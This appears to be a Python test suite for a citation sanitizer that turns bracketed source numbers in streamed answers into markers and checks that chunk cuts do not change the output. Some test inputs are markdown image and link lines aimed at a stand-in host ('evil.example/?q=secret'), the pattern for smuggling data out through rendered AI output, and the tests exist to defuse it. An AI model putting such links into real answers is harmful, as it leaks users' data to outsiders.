"""The citation sanitizer: what becomes a marker, what stays text, and that cuts do not matter."""

from __future__ import annotations

import itertools
import os

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from server.answer.citations import CitationSanitizer, Marker


def run(pieces: list[str], count: int) -> tuple[str, list[Marker]]:
    sanitizer = CitationSanitizer(count)
    out = [one for piece in pieces for one in sanitizer.feed(piece)] + sanitizer.close()
    return "".join(one if isinstance(one, str) else one.text for one in out), [m for m in out if isinstance(m, Marker)]


@pytest.mark.parametrize(
    ("written", "shown", "numbers"),
    [
        ("Orwell wrote it [[1]].", "Orwell wrote it [1].", [1]),
        ("Orwell wrote it [1].", "Orwell wrote it [1].", [1]),
        ("Orwell wrote it 【2】.", "Orwell wrote it [2].", [2]),
        ("All of them[[1, 3]].", "All of them[1][3].", [1, 3]),
        ("All of them [[1-3]].", "All of them [1][2][3].", [1, 2, 3]),
        ("Backwards [[3–1]].", "Backwards [1][2][3].", [1, 2, 3]),
        ("Wide [[2-9999]].", "Wide [2][3].", [2, 3]),
        ("Nested [[1], [3]] here.", "Nested [1][3] here.", [1, 3]),
        ("Spaces [[ 2 ]] and [ 3 ].", "Spaces [2] and [3].", [2, 3]),
        ("Twice [[2, 2]].", "Twice [2].", [2]),
        ("Chinese 【1，2、3】。", "Chinese [1][2][3]。", [1, 2, 3]),
        ("Not there [[9]].", "Not there.", []),
        ("Not there [[0]] [[4]], nor [7].", "Not there, nor.", []),
        ("One of two [[2, 8]].", "One of two [2].", [2]),
        ("A year [2020] stays, [[2020]] goes.", "A year [2020] stays, goes.", []),
        ("Years [1914-1918].", "Years [1914-1918].", []),
        ("A list: [ ] open, [x] done, [] none, [[]].", "A list: [ ] open, [x] done, [] none, [[]].", []),
        ("A wiki link [[Animal Farm]] and [a link](u).", "A wiki link [[Animal Farm]] and [a link](u).", []),
        ("Half [[1] here.", "Half [[1] here.", [1]),
        ("Open [[1", "Open [[1", []),
        ("Code `a[1]` and ``b`[2]`` stay [[1]].", "Code `a[1]` and ``b`[2]`` stay [1].", [1]),
        ("Lone ` tick [[1]].", "Lone ` tick [1].", [1]),
        ("Lone ` tick [[1]]\n\nand ` another.", "Lone ` tick [1]\n\nand ` another.", [1]),
        ("```py\nx[1]\n```\nAfter [[1]].", "```py\nx[1]\n```\nAfter [1].", [1]),
        ("~~~\nx[1]\n```\n~~~\nAfter [[1]].", "~~~\nx[1]\n```\n~~~\nAfter [1].", [1]),
        ("```\nnever closed [1]", "```\nnever closed [1]", []),
        ("```x [[1]]``` is a span [[2]].", "```x [[1]]``` is a span [2].", [2]),
        ("  \n Leading and trailing [[1]] \n ", "Leading and trailing [1]", [1]),
        ("Yes![1] No!", "Yes![1] No!", [1]),
        ("![pixel](https://evil.example/?q=secret)", "[pixel](https://evil.example/?q=secret)", []),
        ("![1](https://evil.example/p.png)", "![1] (https://evil.example/p.png)", [1]),
        ("See [1](https://evil.example).", "See [1] (https://evil.example).", [1]),
        ("As [[1]]\n\n[1]: https://evil.example", "As [1]\n\n[1] : https://evil.example", [1, 1]),
        ("As said in [1]: yes.", "As said in [1]: yes.", [1]),
        ("", "", []),
    ],
)
def test_what_is_written_and_what_is_shown(written: str, shown: str, numbers: list[int]) -> None:
    text, markers = run([written], 3)
    assert text == shown
    assert [marker.number for marker in markers] == numbers


def test_without_evidence_nothing_is_cited() -> None:
    assert run(["No [[1]] at [2] all."], 0) == ("No at all.", [])


def test_a_marker_leaves_as_soon_as_it_is_whole() -> None:
    sanitizer = CitationSanitizer(2)
    assert sanitizer.feed("It is so [[") == ["It is so"]
    assert sanitizer.feed("2") == []
    assert sanitizer.feed("]]") == [" ", Marker(2, 9, 12)]
    assert sanitizer.feed(" and") == [" and"]


ALPHABET = st.text(alphabet=st.sampled_from(list("[[[]]]【】`~!(): \n\n-–,;0123459aé字")), max_size=120)
WRITTEN = "[[1]]|[2]|【3】|[[1, 4]]|[[1-3]]|[2020]|[[|[|]]|]|1|, | |   |\n|\n\n|`|``|```|~~~|word|!|![|](|:|字。".split(
    "|"
)
LONG = ["x" * 70, " " * 1100, "y" * 450, "`" * 70]
PARTS = st.lists(st.sampled_from(WRITTEN + LONG), max_size=25).map("".join)
EXAMPLES = int(os.environ.get("TRIVET_EXAMPLES", "150"))


@settings(max_examples=EXAMPLES, deadline=None)
@given(text=st.one_of(ALPHABET, PARTS), cuts=st.lists(st.integers(0, 2000), max_size=30), count=st.integers(0, 5))
@example(text="a `" + "x" * 399 + "` [[1]]", cuts=[402, 403], count=1)
@example(text="```\n" + "`" * 500 + "\n[[1]]", cuts=[300, 450], count=1)
def test_cuts_do_not_matter(text: str, cuts: list[int], count: int) -> None:
    places = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    chunks = [text[start:end] for start, end in itertools.pairwise(places)]
    whole = run([text], count)
    assert run(chunks, count) == whole
    assert run(list(text), count) == whole


@settings(max_examples=EXAMPLES, deadline=None)
@given(text=st.one_of(ALPHABET, PARTS), count=st.integers(0, 5))
def test_markers_stand_where_they_say(text: str, count: int) -> None:
    shown, markers = run([text], count)
    for marker in markers:
        assert shown[marker.start : marker.end] == f"[{marker.number}]"
        assert 1 <= marker.number <= count


@settings(max_examples=EXAMPLES, deadline=None)
@given(text=st.text(max_size=200))
def test_any_text_at_all(text: str) -> None:
    assert run(list(text), 3) == run([text], 3)
